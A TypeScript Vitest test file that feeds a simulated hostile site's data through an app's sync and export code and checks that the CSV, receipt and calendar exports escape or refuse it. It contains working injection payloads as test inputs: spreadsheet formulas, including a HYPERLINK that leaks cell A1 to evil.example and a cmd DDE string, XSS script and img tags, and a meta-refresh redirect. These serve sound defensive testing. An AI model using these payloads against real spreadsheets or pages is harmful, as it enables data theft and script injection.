import { describe, expect, it, onTestFinished } from 'vitest';
import type { SiteSummary } from '../../electron/common/view-models';
import { getLibrary, getOrdersPage } from '../../electron/core/db';
import { createExportHandlers, type ExportFile } from '../../electron/core/export/service';
import { createSyncService } from '../../electron/core/sync';
import { readCsv } from '../core/export/read-csv';
import { openWorkerDb } from '../core/sync/helpers/setup';
import { startHostileSite, type HostileSite } from './helpers/hostile-site';

/**
 * The exports (CSV, receipt, .ics) of what a hostile site synced: real HTTP on 127.0.0.1, the real
 * sync into a real SQLite file, then the real export handlers on what was stored. A file never
 * fails on one bad row, never carries a live formula or markup of the site's, and never an invalid
 * date line.
 */
const NOW = new Date('2026-06-01T00:00:00.000Z');

type PaymentNode = Record<string, unknown> & { lineitems: Record<string, unknown>[] };

async function syncedHostile(
  change: (nodes: PaymentNode[]) => void,
  operation = 'SyncPayments',
  connection = 'payments',
) {
  const site: HostileSite = await startHostileSite();
  site.rewrite(operation, (answer) => {
    change(
      (answer.data as { viewer: Record<string, { nodes: PaymentNode[] }> }).viewer[connection]!
        .nodes,
    );
    return answer;
  });
  const { db, writer } = await openWorkerDb();
  const sync = createSyncService({
    db,
    writer,
    clientFor: () => site.client,
    clock: () => NOW.getTime(),
  });
  onTestFinished(() => sync.close());
  const summary = await sync.syncNow('hostile');
  expect(summary).toMatchObject({ outcome: 'completed', error: null });
  const files: ExportFile[] = [];
  const summaryOf: SiteSummary = {
    id: 'hostile',
    label: 'Hostile school',
    baseUrl: site.url,
  } as SiteSummary;
  const handlers = createExportHandlers({
    db,
    now: () => NOW,
    site: () => summaryOf,
    timeZone: () => 'Asia/Taipei',
    deliver: async (file) => {
      files.push(file);
      return { saved: true } as never;
    },
  });
  return { db, handlers, files };
}

describe('exports of a hostile site', () => {
  it('every CSV cell goes through the formula guard: the currency cell too', async () => {
    const { handlers, files } = await syncedHostile((nodes) => {
      nodes[0]!.currency = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
      nodes[1]!.currency = "+cmd|' /C calc'!A0";
      nodes[2]!.currency = '@SUM(1+1)';
    });
    await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
    const rows = readCsv(files[0]!.body);
    for (const row of rows.slice(1))
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The currency is read as at most 16 characters of text (common/site-values.ts); what is left
    // is still guarded.
    expect(rows.flat()).toContain('\'=HYPERLINK("http…');
    expect(rows.flat()).toContain("'@SUM(1+1)");
  });

  it('unknown enum values, `constructor` and `toString` among them, are written as unknown; nothing throws', async () => {
    const { db, handlers, files } = await syncedHostile((nodes) => {
      nodes[0]!.paymentType = 'constructor';
      nodes[1]!.paymentState = 'toString';
      nodes[2]!.paymentType = 'bitcoin';
      nodes[2]!.lineitems[0]!.itemType = '__proto__';
      nodes[3]!.refundingState = 'hasOwnProperty';
    });
    await handlers['export:orders-csv']({ siteId: 'hostile', language: 'zh-TW' });
    const cells = readCsv(files[0]!.body).flat();
    // The view models read an enum the app does not know as 'unknown' (common/site-values.ts
    // knownOr), never by a lookup that could reach Object.prototype; the sheet says so in its
    // language.
    expect(cells).toContain('不明');
    expect(cells).not.toContain('constructor');
    expect(cells.join('\n')).not.toMatch(/function|\[native code\]|undefined/);
    // The receipt of each odd order is made too.
    for (const order of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
      await handlers['export:receipt']({
        siteId: 'hostile',
        tradeNo: order.tradeNo,
        language: 'en',
      });
    }
    const receipts = files
      .filter((f) => f.kind === 'receipt')
      .map((f) => f.body)
      .join('\n');
    expect(receipts).toContain('Unknown');
    expect(receipts).not.toMatch(/function Object|\[native code\]/);
  });

  it('odd dates (year 275760, year -1, not a date) leave the CSV whole; the .ics is refused clearly, never invalid', async () => {
    const { db, handlers, files } = await syncedHostile((nodes) => {
      nodes[0]!.createdAt = '+275760-09-13T00:00:00.000Z';
      nodes[1]!.paidAt = '-000001-01-01T00:00:00.000Z';
      nodes[2]!.createdAt = 'soon';
      // An unpaid ATM code whose deadline is beyond any calendar.
      Object.assign(nodes[3]!, {
        paymentState: 'not_paid',
        paymentType: 'atm',
        codeNo: '1234',
        expiredAt: '+275760-09-13T00:00:00.000Z',
        paidAt: null,
      });
    });
    await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
    const rows = readCsv(files[0]!.body);
    expect(rows.length).toBeGreaterThan(4);
    expect(rows.flat()).toContain("'+275760-09-13T00:00:00.000Z");
    expect(rows.flat()).toContain("'-000001-01-01T00:00:00.000Z");
    expect(rows.flat().join('\n')).not.toMatch(/1902|NaN/);
    const odd = getOrdersPage(db, 'hostile', NOW)
      .items.flatMap((o) => o.payments)
      .find((p) => p.instructions?.expiredAt?.startsWith('+275760'));
    expect(odd).toBeDefined();
    const failure = await handlers['calendar:payment-deadline']({
      siteId: 'hostile',
      paymentId: odd!.paymentId,
      language: 'en',
    }).then(
      () => null,
      (e: unknown) => e,
    );
    // Either refused in words (not an internal error), or a file whose DTSTART has four year
    // digits.
    if (failure === null) expect(files.at(-1)!.body).toMatch(/^DTSTART:\d{8}T\d{6}Z\r$/m);
    else expect(failure).toMatchObject({ code: 'invalid-input' });
  });

  it('a line item quantity that is markup is shown as text in the receipt: no element, no refresh of the print view', async () => {
    const { db, handlers, files } = await syncedHostile((nodes) => {
      nodes[0]!.lineitems[0]!.quantity =
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
      nodes[0]!.lineitems[0]!.title = { html: '<script>alert(1)</script>' };
      nodes[0]!.lineitems[0]!.itemType = '<img src=x onerror=alert(1)>';
    });
    // The quantity is read as a number (common/site-values.ts siteNumber) and the title as text;
    // whichever order holds the odd line item, no receipt carries the site's markup as markup.
    for (const { tradeNo } of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
      await handlers['export:receipt']({ siteId: 'hostile', tradeNo, language: 'en' });
      const receipt = files.at(-1)!;
      for (const html of [receipt.body, receipt.printView!]) {
        expect(html).not.toMatch(/<meta http-equiv="refresh"/i);
        expect(html).not.toMatch(/<script>alert/);
        expect(html).not.toMatch(/<img/);
        expect(html).toContain(tradeNo);
      }
    }
  });

  it('the progress CSV and printable page of hostile courses: formulas as text, markup escaped, odd dates kept whole', async () => {
    const { db, handlers, files } = await syncedHostile(
      (nodes) => {
        Object.assign(nodes[0]!, {
          title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
          instructorName: '<img src=x onerror=alert(1)>',
          enrolledAt: 'not a date',
          expireDate: '+275760-09-13T00:00:00.000Z',
          hasLifetimeAccess: false,
        });
        Object.assign(nodes[1]!, { title: '<script>alert(1)</script>' });
      },
      'SyncCourses',
      'enrolledCourses',
    );
    const courses = getLibrary(db, 'hostile', NOW).length;
    await handlers['export:progress-csv']({ siteId: 'hostile', language: 'en' });
    const rows = readCsv(files.at(-1)!.body);
    expect(rows.length - 1).toBe(courses);
    for (const row of rows.slice(1)) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.some((r) => r[1] === `'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe(
      true,
    );
    await handlers['export:progress-report']({ siteId: 'hostile', language: 'en' });
    const page = files.at(-1)!;
    for (const html of [page.body, page.printView!]) {
      expect(html).not.toMatch(/<script>alert/);
      expect(html).not.toMatch(/<img/);
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    }
  });

  it('the .ics carries no U+2028, U+2029 or U+0085 of the site (written as line breaks), and no year outside 0000-9999', async () => {
    const { db, handlers, files } = await syncedHostile(
      (nodes) => {
        Object.assign(nodes[0]!, {
          title: 'Line\u2028two\u2029three\u0085four\u0086',
          expireDate: '2026-09-30T15:59:59.000Z',
          hasLifetimeAccess: false,
        });
        Object.assign(nodes[1]!, {
          expireDate: '-000001-01-01T00:00:00.000Z',
          hasLifetimeAccess: false,
        });
      },
      'SyncCourses',
      'enrolledCourses',
    );
    const courses = getLibrary(db, 'hostile', NOW).map((c) => c.courseId);
    await handlers['calendar:course-access-end']({
      siteId: 'hostile',
      courseId: courses[0]!,
      language: 'en',
    });
    const ics = files.at(-1)!.body;
    expect(ics).not.toMatch(/[\u2028\u2029\u0085\u0086]/);
    // A title is one line: the site's line separators are read as spaces (common/site-values.ts
    // siteText).
    expect(ics).toContain('Line two three four');
    const odd = await handlers['calendar:course-access-end']({
      siteId: 'hostile',
      courseId: courses[1]!,
      language: 'en',
    }).then(
      () => null,
      (e: unknown) => e,
    );
    // Refused in words (the course's access has "ended" in year -1, or the date cannot be a
    // calendar's): never a file.
    expect(odd).toMatchObject({ code: 'invalid-input' });
    expect(files.filter((f) => f.kind === 'ics')).toHaveLength(1);
  });
});

describe('a site whose data cannot be stored (a payment amount that is not a number)', () => {
  it('is told as "the site sent data the app cannot read", keeps the last good copy, and is not retried', async () => {
    const site = await startHostileSite();
    const { db, writer } = await openWorkerDb();
    const sync = createSyncService({
      db,
      writer,
      clientFor: () => site.client,
      clock: () => NOW.getTime(),
    });
    onTestFinished(() => sync.close());
    expect((await sync.syncNow('hostile')).outcome).toBe('completed');
    const before = getOrdersPage(db, 'hostile', NOW);
    site.rewrite('SyncPayments', (answer) => {
      const nodes = (answer.data as { viewer: { payments: { nodes: PaymentNode[] } } }).viewer
        .payments.nodes;
      nodes[0]!.amount = 'lots';
      return answer;
    });
    site.seen.clear();
    const summary = await sync.syncNow('hostile');
    expect(summary).toMatchObject({
      outcome: 'failed',
      error: { code: 'site-data-invalid', message: expect.stringMatching(/cannot read/) },
    });
    expect(getOrdersPage(db, 'hostile', NOW)).toEqual(before);
    // One request per page (the demo's payments fit one), none sent again.
    expect(site.seen.get('SyncPayments')).toBe(1);
  });
});
